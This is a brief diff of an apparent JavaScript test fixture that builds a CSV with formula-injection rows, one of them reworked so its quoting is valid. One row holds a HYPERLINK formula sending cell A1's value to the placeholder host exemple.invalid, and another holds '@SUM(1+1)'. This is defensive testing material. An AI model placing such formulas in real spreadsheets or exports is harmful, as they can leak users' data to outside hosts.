@@ -13,7 +13,7 @@ const formulas = {
   mimeType: "text/csv",
   buffer: Buffer.from(
     "CODGEO;NOM_ASSOCIATION;SOLDE\n" +
-      "59522;=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Voir\");-3,5\n" +
+      "59522;\"=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\";-3,5\n" +
       "59522;@SUM(1+1);12\n" +
       "59332;Club de Lannoy;4\n",
   ),
